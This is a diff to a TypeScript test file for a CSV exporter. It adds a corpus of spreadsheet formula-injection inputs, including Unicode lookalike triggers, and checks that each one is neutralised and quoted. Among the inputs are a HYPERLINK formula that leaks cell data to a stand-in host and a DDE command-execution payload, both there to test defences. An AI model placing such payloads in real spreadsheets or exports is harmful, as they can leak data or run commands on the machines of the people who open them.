@@ -37,6 +37,74 @@ describe("neutraliseFormula", () => {
   });
 });
 
+// Spreadsheet formula-injection payloads as they arrive in titles, artists and genres: the
+// OWASP "CSV Injection" list, their fullwidth and small/superscript twins (which Unicode's
+// NFKC normalisation turns into the ASCII characters), and separators a semicolon-locale
+// spreadsheet splits on. Each maps to the exact field the file must contain.
+const INJECTION_CORPUS: Array<[input: string, field: string]> = [
+  ["=1+1", "'=1+1"],
+  [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
+    '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")"',
+  ],
+  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
+  ["+SUM(1,2)", '"\'+SUM(1,2)"'],
+  ["-2+3", "'-2+3"],
+  ["@SUM(A1:A2)", "'@SUM(A1:A2)"],
+  ["\t=1+1", "'\t=1+1"],
+  ["\r=1+1", '"\'\r=1+1"'],
+  ["＝1+1", "'＝1+1"],
+  ['＝HYPERLINK("http://evil.example")', '"\'＝HYPERLINK(""http://evil.example"")"'],
+  ["＋1", "'＋1"],
+  ["－1", "'－1"],
+  ["＠SUM(A1)", "'＠SUM(A1)"],
+  ["﹦1+1", "'﹦1+1"],
+  ["﹢1", "'﹢1"],
+  ["﹣1", "'﹣1"],
+  ["﹫SUM(A1)", "'﹫SUM(A1)"],
+  ["⁼1", "'⁼1"],
+  ["₌1", "'₌1"],
+  ["⁺1", "'⁺1"],
+  ["₊1", "'₊1"],
+  ["﬩1", "'﬩1"],
+  ["⩵1", "'⩵1"],
+  ["⩶1", "'⩶1"],
+  ["=1;2", '"\'=1;2"'],
+  ["＝1;＝2", '"\'＝1;＝2"'],
+  ["Rock; Pop", '"Rock; Pop"'],
+  ["a;b,c", '"a;b,c"'],
+  // Not a formula: the trigger is not the first character, or the character only looks alike.
+  ["A=B+C", "A=B+C"],
+  [" =1+1", " =1+1"],
+  ["\u2212 1", "\u2212 1"],
+  ["Kind of Blue", "Kind of Blue"],
+  ["", ""],
+];
+
+describe("text fields against an injection corpus", () => {
+  const column: CsvColumn<{ text: string }>[] = [{ header: "title", value: (row) => row.text, text: true }];
+
+  it.each(INJECTION_CORPUS)("writes %j as %j", (input, field) => {
+    expect(formatCsvRecord(column, { text: input })).toBe(`${field}\r\n`);
+  });
+
+  it("neutralises exactly the characters that NFKC turns into a formula trigger", () => {
+    // Ties the explicit list in csv.ts to Unicode's own data as this Node.js carries it.
+    const mismatches: string[] = [];
+    for (let codePoint = 0; codePoint <= 0x10ffff; codePoint++) {
+      if (codePoint >= 0xd800 && codePoint <= 0xdfff) continue;
+      const character = String.fromCodePoint(codePoint);
+      const first = character.normalize("NFKC")[0];
+      const trigger = first !== undefined && "=+-@\t\r".includes(first);
+      const text = `${character}1`;
+      if ((neutraliseFormula(text) === `'${text}`) !== trigger) {
+        mismatches.push(`U+${codePoint.toString(16).toUpperCase()}`);
+      }
+    }
+    expect(mismatches).toEqual([]);
+  });
+});
+
 describe("escapeCsvField", () => {
   it("quotes commas, quotes, CR and LF and doubles inner quotes", () => {
     expect(escapeCsvField("a,b")).toBe('"a,b"');
@@ -44,6 +112,11 @@ describe("escapeCsvField", () => {
     expect(escapeCsvField("line\nbreak")).toBe('"line\nbreak"');
     expect(escapeCsvField("cr\rhere")).toBe('"cr\rhere"');
     expect(escapeCsvField("plain")).toBe("plain");
+  });
+
+  it("quotes a semicolon, the list separator of semicolon-locale spreadsheets", () => {
+    expect(escapeCsvField("Rock;Pop")).toBe('"Rock;Pop"');
+    expect(formatCsvHeader([{ header: "a;b", value: () => "" }])).toBe('"a;b"\r\n');
   });
 });
 
